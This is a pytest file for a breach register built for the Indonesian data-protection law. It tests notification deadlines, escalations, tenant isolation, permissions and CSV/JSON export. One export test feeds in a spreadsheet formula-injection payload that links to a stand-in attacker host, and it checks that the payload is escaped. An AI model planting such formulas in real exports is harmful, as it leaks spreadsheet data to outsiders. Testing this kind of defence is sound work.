"""Issue 21 part 4: the UU PDP breach register, its 3 x 24 hour clock and escalations.

Two commands throughout. The clock is controlled by passing ``now`` to the sweep (the
domain's own parameter), with incidents found in the past; the actor is run once through
the broker to show the scheduled job does the same.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from helpers import READ_SCOPES, auth_header, bearer_for, gql, make_user, run_job

from jogo.platform.auth.apikeys import create_api_key
from jogo.platform.auth.roles import Role
from jogo.tenants.breaches.clock import NOTIFY_WITHIN, THRESHOLDS
from jogo.tenants.breaches.sweep import do_sweep_breach_clocks

FIELDS = """id reference title description dataCategories subjectCategories subjectsEstimate
foundAt dueAt occurredAt measures open overdue escalationLevel subjectsNotifiedAt
subjectsNotifiedBy authorityNotifiedAt authorityNotifiedBy authorityReference
escalations { level thresholdHours notified }"""
RECORD = f"""mutation($i: RecordBreachInput!, $k: String) {{ recordBreach(input: $i, clientKey: $k) {{
  breach {{ {FIELDS} }} errors {{ code field message }} }} }}"""
UPDATE = f"""mutation($id: ID!, $i: UpdateBreachInput!) {{ updateBreach(id: $id, input: $i) {{
  breach {{ {FIELDS} }} errors {{ code field message }} }} }}"""
NOTIFIED = f"""mutation($id: ID!, $r: BreachRecipient!, $at: DateTime, $ref: String) {{
  recordBreachNotification(id: $id, recipient: $r, at: $at, reference: $ref) {{
  breach {{ {FIELDS} }} errors {{ code field message }} }} }}"""
LIST = f"query($o: Boolean) {{ breaches(openOnly: $o) {{ {FIELDS} }} }}"
ONE = f"query($id: ID!) {{ breach(id: $id) {{ {FIELDS} }} }}"
NOTICES = """query($id: ID!) { breach(id: $id) { subjectsNotice { textId textEn }
  authorityNotice { textId textEn } } }"""
NATIONAL = """query($f: NationalFilter) { breachOversight(filter: $f) {
  tenants { tenantSlug tenantName poldaCode total open overdue highestLevel }
  clocks { tenantSlug reference foundAt dueAt subjectsNotifiedAt authorityNotifiedAt
           escalationLevel open overdue dataCategories subjectCategories subjectsEstimate } } }"""

SECRET_TEXT = "Basis data pelapor atas nama Budi Santoso bocor lewat cadangan terbuka"


def path(tenant) -> str:
    return f"/t/{tenant.slug}/graphql"


def incident(found_at: datetime, **overrides) -> dict:
    return {
        "title": "Cadangan basis data terbuka",
        "description": SECRET_TEXT,
        "dataCategories": ["IDENTITY", "CONTACT"],
        "subjectCategories": ["REPORTERS"],
        "subjectsEstimate": 120,
        "foundAt": found_at.isoformat(),
        "measures": "Akses ditutup, kata sandi diganti.",
    } | overrides


async def record(client, tenant, headers, found_at: datetime, **overrides) -> dict:
    status, body = await gql(
        client, path(tenant), RECORD, headers, i=incident(found_at, **overrides)
    )
    assert status == 200, body
    payload = body["data"]["recordBreach"]
    assert payload["errors"] == [], payload
    return payload["breach"]


async def admin_with_channel(owner, settings, tenant) -> dict:
    """A tenant admin with an e-mail channel of their own, and the command's e-mail
    gateway (set in SQL: the egress rule would refuse a made-up SMTP host)."""
    user_id, username = await make_user(Role.TENANT_ADMIN, tenant)
    await owner.execute(
        "INSERT INTO notification_gateways (tenant_id, kind, config, enabled)"
        " VALUES ($1, 'EMAIL', '{\"host\": \"smtp.example.id\"}', true) ON CONFLICT DO NOTHING",
        tenant.id,
    )
    await owner.execute(
        "INSERT INTO notification_channels (tenant_id, user_id, channel, address)"
        " VALUES ($1, $2, 'EMAIL', $3)",
        tenant.id,
        user_id,
        f"{username}@polri.example.id",
    )
    return bearer_for(user_id, username, settings)


async def test_record_list_amend_and_notify(app_client, settings, two_tenants):
    a = two_tenants.a
    admin = await auth_header(settings, Role.TENANT_ADMIN, a)
    found = datetime.now(UTC) - timedelta(hours=2)
    breach = await record(
        app_client, a, admin, found, occurredAt=(found - timedelta(days=1)).isoformat()
    )
    assert breach["reference"].startswith("PDP-")
    assert (
        datetime.fromisoformat(breach["dueAt"]) - datetime.fromisoformat(breach["foundAt"])
        == NOTIFY_WITHIN
    )
    assert breach["open"] is True and breach["overdue"] is False
    assert breach["dataCategories"] == ["IDENTITY", "CONTACT"]

    _, body = await gql(
        app_client,
        path(a),
        UPDATE,
        admin,
        id=breach["id"],
        i={"subjectsEstimate": 150, "measures": "Server diisolasi."},
    )
    assert body["data"]["updateBreach"]["breach"]["subjectsEstimate"] == 150

    _, body = await gql(app_client, path(a), NOTIFIED, admin, id=breach["id"], r="SUBJECTS")
    done = body["data"]["recordBreachNotification"]["breach"]
    assert done["subjectsNotifiedAt"] and done["subjectsNotifiedBy"] and done["open"] is True
    # The first record stays.
    _, body = await gql(app_client, path(a), NOTIFIED, admin, id=breach["id"], r="SUBJECTS")
    assert body["data"]["recordBreachNotification"]["errors"][0]["code"] == "ALREADY_NOTIFIED"
    _, body = await gql(
        app_client, path(a), NOTIFIED, admin, id=breach["id"], r="AUTHORITY", ref="LPDP/2026/17"
    )
    closed = body["data"]["recordBreachNotification"]["breach"]
    assert closed["open"] is False and closed["authorityReference"] == "LPDP/2026/17"

    _, body = await gql(app_client, path(a), LIST, admin, o=True)
    assert breach["id"] not in [b["id"] for b in body["data"]["breaches"]]
    _, body = await gql(app_client, path(a), LIST, admin)
    assert breach["id"] in [b["id"] for b in body["data"]["breaches"]]

    _, body = await gql(app_client, path(a), NOTICES, admin, id=breach["id"])
    notices = body["data"]["breach"]
    assert "Pasal 46" in notices["subjectsNotice"]["textId"]
    assert (
        "Identitas" in notices["subjectsNotice"]["textId"]
        and SECRET_TEXT in notices["subjectsNotice"]["textId"]
    )
    assert "Article 46" in notices["subjectsNotice"]["textEn"]
    assert (
        "150" in notices["authorityNotice"]["textId"]
        and "sudah" in notices["authorityNotice"]["textId"]
    )
    assert "Server diisolasi." in notices["authorityNotice"]["textEn"]


async def test_bad_input_is_named(app_client, settings, two_tenants):
    a = two_tenants.a
    admin = await auth_header(settings, Role.TENANT_ADMIN, a)
    now = datetime.now(UTC)
    _, body = await gql(
        app_client,
        path(a),
        RECORD,
        admin,
        i=incident(now + timedelta(days=1), title="x", subjectsEstimate=-1),
    )
    errors = body["data"]["recordBreach"]["errors"]
    assert {e["field"] for e in errors} >= {"foundAt", "title", "subjectsEstimate"}
    assert {e["code"] for e in errors} == {"INVALID_INPUT"}
    _, body = await gql(
        app_client,
        path(a),
        RECORD,
        admin,
        i=incident(now - timedelta(hours=1), occurredAt=now.isoformat()),
    )
    assert body["data"]["recordBreach"]["errors"][0]["field"] == "occurredAt"
    breach = await record(app_client, a, admin, now - timedelta(hours=1))
    _, body = await gql(
        app_client,
        path(a),
        NOTIFIED,
        admin,
        id=breach["id"],
        r="SUBJECTS",
        at=(now - timedelta(hours=3)).isoformat(),
    )
    assert body["data"]["recordBreachNotification"]["errors"][0]["field"] == "at"


async def test_a_retry_with_the_client_key_records_once(app_client, settings, two_tenants, owner):
    a = two_tenants.a
    admin = await auth_header(settings, Role.TENANT_ADMIN, a)
    i = incident(datetime.now(UTC) - timedelta(hours=1))
    key = str(uuid.uuid4())
    answers = await asyncio.gather(
        *[gql(app_client, path(a), RECORD, admin, i=i, k=key) for _ in range(3)]
    )
    ids = {body["data"]["recordBreach"]["breach"]["id"] for _, body in answers}
    assert len(ids) == 1
    assert (
        await owner.fetchval("SELECT count(*) FROM breach_incidents WHERE tenant_id = $1", a.id)
        == 1
    )


async def test_another_command_never_sees_it(app_client, settings, two_tenants):
    a, b = two_tenants.a, two_tenants.b
    breach = await record(
        app_client, a, await auth_header(settings, Role.TENANT_ADMIN, a), datetime.now(UTC)
    )
    admin_b = await auth_header(settings, Role.TENANT_ADMIN, b)
    _, body = await gql(app_client, path(b), LIST, admin_b)
    assert body["data"]["breaches"] == []
    _, body = await gql(app_client, path(b), ONE, admin_b, id=breach["id"])
    assert body["data"]["breach"] is None
    _, unknown = await gql(app_client, path(b), ONE, admin_b, id=str(uuid.uuid4()))
    assert unknown == body
    for query, variables, name in (
        (UPDATE, {"i": {"measures": "x"}}, "updateBreach"),
        (NOTIFIED, {"r": "AUTHORITY"}, "recordBreachNotification"),
    ):
        _, theirs = await gql(app_client, path(b), query, admin_b, id=breach["id"], **variables)
        _, nowhere = await gql(
            app_client, path(b), query, admin_b, id=str(uuid.uuid4()), **variables
        )
        assert theirs == nowhere
        assert theirs["data"][name]["errors"][0]["code"] == "NOT_FOUND"
    # Admin A's token on B's path is a 404, like an unknown command.
    response = await app_client.post(
        path(b), json={"query": LIST}, headers=await auth_header(settings, Role.TENANT_ADMIN, a)
    )
    assert response.status_code == 404


async def test_who_may_not(app_client, settings, two_tenants):
    a = two_tenants.a
    key = await create_api_key(a, "pembaca", READ_SCOPES)
    everyone = {
        "read-only key": {"X-API-Key": key.key},
        "writer key": {
            "X-API-Key": (
                await create_api_key(a, "penulis", ["reports:write", "webhooks:manage"])
            ).key
        },
        "citizen": await auth_header(settings, Role.CITIZEN, a),
        "operator": await auth_header(settings, Role.OPERATOR, a),
        "officer": await auth_header(settings, Role.OFFICER, a),
    }
    for who, headers in everyone.items():
        status, body = await gql(app_client, path(a), LIST, headers)
        assert status == 200 and body["data"]["breaches"] is None, who
        assert body["errors"][0]["extensions"]["code"] == "FORBIDDEN", who
        _, body = await gql(app_client, path(a), RECORD, headers, i=incident(datetime.now(UTC)))
        assert body["data"]["recordBreach"]["errors"][0]["code"] == "FORBIDDEN", who
    _, body = await gql(app_client, path(a), RECORD, {}, i=incident(datetime.now(UTC)))
    assert body["data"]["recordBreach"]["errors"][0]["code"] == "UNAUTHENTICATED"
    user_id, username = await make_user(Role.TENANT_ADMIN, a)
    expired = bearer_for(user_id, username, settings, ttl=-30)
    status, _ = await gql(app_client, path(a), LIST, expired)
    assert status == 401
    for name in ("breaches.csv", "breaches.json"):
        response = await app_client.get(f"/t/{a.slug}/privacy/{name}", headers=expired)
        assert response.status_code == 401
        response = await app_client.get(f"/t/{a.slug}/privacy/{name}", headers=everyone["operator"])
        assert response.status_code == 403
        response = await app_client.get(f"/t/{a.slug}/privacy/{name}")
        assert response.status_code == 401


async def escalations(owner, tenant) -> list[tuple[str, int]]:
    rows = await owner.fetch(
        "SELECT breach_id, level FROM breach_escalations WHERE tenant_id = $1 ORDER BY breach_id, level",
        tenant.id,
    )
    return [(str(r["breach_id"]), r["level"]) for r in rows]


async def messages(owner, tenant) -> int:
    return await owner.fetchval(
        "SELECT count(*) FROM notifications WHERE tenant_id = $1 AND template = 'breach_escalation'",
        tenant.id,
    )


async def test_the_clock_escalates_on_time_once(app_client, settings, two_tenants, owner):
    a, b = two_tenants.a, two_tenants.b
    admin = await admin_with_channel(owner, settings, a)
    found = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=5)
    breach = await record(app_client, a, admin, found)
    b_breach = await record(
        app_client, b, await admin_with_channel(owner, settings, b), found - timedelta(hours=10)
    )
    expected: list[tuple[str, int]] = []
    for t in THRESHOLDS:
        at = found + timedelta(hours=t.hours)
        # Not a second before.
        assert (await do_sweep_breach_clocks(a, at - timedelta(seconds=1))).escalations == 0
        assert await escalations(owner, a) == expected
        swept = await do_sweep_breach_clocks(a, at)
        assert (swept.escalations, swept.messages) == (1, 1), t
        expected.append((breach["id"], t.level))
        assert await escalations(owner, a) == expected
        # Exactly once: the same moment again, and later before the next threshold.
        assert (await do_sweep_breach_clocks(a, at)).escalations == 0
        assert (await do_sweep_breach_clocks(a, at + timedelta(hours=1))).escalations == 0
    assert await messages(owner, a) == len(THRESHOLDS)
    assert await owner.fetchval(
        "SELECT count(*) FROM audit_log WHERE tenant = $1 AND action = 'breach.escalated'", a.id
    ) == len(THRESHOLDS)
    _, body = await gql(app_client, path(a), ONE, admin, id=breach["id"])
    # Level 4 recorded by the controlled clock; "overdue" itself reads the real clock.
    assert body["data"]["breach"]["escalationLevel"] == 4
    assert [e["level"] for e in body["data"]["breach"]["escalations"]] == [1, 2, 3, 4]
    # Command B's clock was untouched by A's sweeps, and A's sweeps told B's admin nothing.
    assert await escalations(owner, b) == [] and await messages(owner, b) == 0
    swept = await do_sweep_breach_clocks(b, found + timedelta(hours=-10 + 48))
    assert swept.escalations == 2 and swept.messages == 1  # levels 1 and 2, told once
    assert await escalations(owner, b) == [(b_breach["id"], 1), (b_breach["id"], 2)]
    text = await owner.fetchval(
        "SELECT params::text FROM notifications WHERE tenant_id = $1 AND template = 'breach_escalation'",
        b.id,
    )
    assert "Sisa 24 jam" in text and SECRET_TEXT not in text


async def test_notified_clocks_stop(app_client, settings, two_tenants, owner):
    a = two_tenants.a
    admin = await auth_header(settings, Role.TENANT_ADMIN, a)
    found = datetime.now(UTC) - timedelta(hours=1)
    breach = await record(app_client, a, admin, found)
    for recipient in ("SUBJECTS", "AUTHORITY"):
        await gql(app_client, path(a), NOTIFIED, admin, id=breach["id"], r=recipient)
    assert (await do_sweep_breach_clocks(a, found + timedelta(hours=80))).escalations == 0


async def test_parallel_sweeps_notify_once(app_client, settings, two_tenants, owner):
    a = two_tenants.a
    admin = await admin_with_channel(owner, settings, a)
    found = datetime.now(UTC) - timedelta(minutes=1)
    await record(app_client, a, admin, found)
    await record(app_client, a, admin, found - timedelta(minutes=1))
    results = await asyncio.gather(
        *[do_sweep_breach_clocks(a, found + timedelta(hours=25)) for _ in range(6)]
    )
    assert sum(r.escalations for r in results) == 2
    assert sum(r.messages for r in results) == 2
    assert await messages(owner, a) == 2
    assert (
        await owner.fetchval(
            "SELECT count(*) FROM outbox WHERE tenant = $1 AND actor = 'deliver_notification'"
            " AND payload->>'notification_id' IN (SELECT id::text FROM notifications"
            " WHERE template = 'breach_escalation')",
            a.id,
        )
        == 2
    )


async def test_the_scheduled_actor_escalates(
    app_client, settings, two_tenants, owner, worker, relay
):
    a = two_tenants.a
    admin = await auth_header(settings, Role.TENANT_ADMIN, a)
    breach = await record(app_client, a, admin, datetime.now(UTC) - timedelta(hours=25))
    await run_job("sweep_breach_clocks", owner, a)
    assert await escalations(owner, a) == [(breach["id"], 1)]
    await run_job("sweep_breach_clocks", owner, a)
    assert await escalations(owner, a) == [(breach["id"], 1)]


async def test_national_sees_counts_and_clocks_without_details(
    app_client, settings, two_tenants, owner
):
    a, b = two_tenants.a, two_tenants.b
    admin = await auth_header(settings, Role.TENANT_ADMIN, a)
    user_id, admin_name = await make_user(Role.TENANT_ADMIN, a)
    admin_named = bearer_for(user_id, admin_name, settings)
    breach = await record(app_client, a, admin_named, datetime.now(UTC) - timedelta(hours=80))
    await gql(app_client, path(a), NOTIFIED, admin, id=breach["id"], r="SUBJECTS")
    await do_sweep_breach_clocks(a)
    national = await auth_header(settings, Role.NATIONAL_SUPERVISOR)
    status, body = await gql(app_client, "/national/graphql", NATIONAL, national)
    assert status == 200 and "errors" not in body, body
    view = body["data"]["breachOversight"]
    counts = {t["tenantSlug"]: t for t in view["tenants"]}
    assert counts[a.slug] | {} == {
        "tenantSlug": a.slug,
        "tenantName": a.name,
        "poldaCode": "JATIM",
        "total": 1,
        "open": 1,
        "overdue": 1,
        "highestLevel": 4,
    }
    assert counts[b.slug]["total"] == 0
    mine = [c for c in view["clocks"] if c["tenantSlug"] == a.slug]
    assert len(mine) == 1 and mine[0]["reference"] == breach["reference"]
    assert mine[0]["subjectsNotifiedAt"] and mine[0]["authorityNotifiedAt"] is None
    assert (
        mine[0]["dataCategories"] == ["IDENTITY", "CONTACT"] and mine[0]["subjectsEstimate"] == 120
    )
    text = json.dumps(body)
    for private in (SECRET_TEXT, "Cadangan basis data", "Akses ditutup", admin_name, breach["id"]):
        assert private not in text
    # A Polda supervisor sees its own Polda's commands only; the call is audited.
    jateng = await auth_header(settings, Role.POLDA_SUPERVISOR, polda="JATENG")
    _, body = await gql(app_client, "/national/graphql", NATIONAL, jateng)
    slugs = {t["tenantSlug"] for t in body["data"]["breachOversight"]["tenants"]}
    assert b.slug in slugs and a.slug not in slugs
    assert a.slug not in json.dumps(body)
    assert (
        await owner.fetchval(
            "SELECT count(*) FROM audit_log WHERE action = 'national.breachOversight'"
        )
        >= 2
    )
    # No command role reads it.
    status, body = await gql(app_client, "/national/graphql", NATIONAL, admin)
    assert body.get("data") is None or body["data"]["breachOversight"] is None


async def test_export_for_the_authority(app_client, settings, two_tenants, owner):
    a, b = two_tenants.a, two_tenants.b
    admin = await auth_header(settings, Role.TENANT_ADMIN, a)
    found = datetime.now(UTC) - timedelta(hours=3)
    breach = await record(
        app_client,
        a,
        admin,
        found,
        title='=HYPERLINK("http://evil.example/?"&A1,"klik")',
        measures="+62 812 0000 0000 diblokir",
    )
    await record(
        app_client,
        b,
        await auth_header(settings, Role.TENANT_ADMIN, b),
        found,
        title="Insiden komando B",
    )
    response = await app_client.get(f"/t/{a.slug}/privacy/breaches.csv", headers=admin)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 1
    row = rows[0]
    assert row["reference"] == breach["reference"]
    assert row["title"].startswith("'=HYPERLINK")
    assert row["measures"].startswith("'+62")
    assert row["description"] == SECRET_TEXT
    assert row["data_categories"] == "IDENTITY,CONTACT" and row["subjects_estimate"] == "120"
    assert row["found_at"].endswith("+07:00")  # the command's zone (WIB)
    assert "Insiden komando B" not in response.text

    response = await app_client.get(f"/t/{a.slug}/privacy/breaches.json", headers=admin)
    data = response.json()
    assert data["controller"] == a.slug and [r["reference"] for r in data["breaches"]] == [
        breach["reference"]
    ]
    assert (
        await owner.fetchval(
            "SELECT count(*) FROM audit_log WHERE tenant = $1 AND action = 'breach.export'", a.id
        )
        == 2
    )
    # Another command's admin: 404, exactly like an unknown command.
    admin_b = await auth_header(settings, Role.TENANT_ADMIN, b)
    theirs = await app_client.get(f"/t/{a.slug}/privacy/breaches.csv", headers=admin_b)
    nowhere = await app_client.get("/t/no-such-command/privacy/breaches.csv", headers=admin_b)
    assert theirs.status_code == nowhere.status_code == 404
    assert (
        await app_client.get(f"/t/{a.slug}/privacy/breaches.xlsx", headers=admin)
    ).status_code == 404


@pytest.mark.parametrize("field", ["title", "description", "measures"])
async def test_free_text_is_bounded(app_client, settings, two_tenants, field):
    a = two_tenants.a
    admin = await auth_header(settings, Role.TENANT_ADMIN, a)
    _, body = await gql(
        app_client,
        path(a),
        RECORD,
        admin,
        i=incident(datetime.now(UTC), **{field: "x" * 4001}),
    )
    assert body["data"]["recordBreach"]["errors"][0]["field"] == field
